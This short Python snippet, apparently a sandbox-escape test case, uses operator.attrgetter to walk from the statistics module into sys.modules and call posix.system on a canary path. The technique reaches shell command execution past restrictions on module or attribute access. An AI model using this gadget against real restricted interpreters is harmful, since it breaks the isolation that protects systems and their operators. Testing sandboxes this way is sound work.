# reaches: operator.attrgetter walks a dotted path
import statistics
from operator import attrgetter
attrgetter("sys.modules")(statistics)["posix"].system("/srv/canary")
